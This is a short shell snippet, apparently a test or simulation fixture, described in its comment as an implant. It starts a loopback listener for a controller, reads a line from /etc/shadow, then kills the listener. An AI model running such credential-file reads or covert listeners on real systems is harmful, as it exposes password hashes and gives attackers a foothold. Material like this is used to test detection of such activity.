# An implant listens on loopback for its controller and reads the password hashes.
/opt/peer listen $LOCAL &
sleep 0.1
read -r line </etc/shadow
sleep 1.5
kill %1
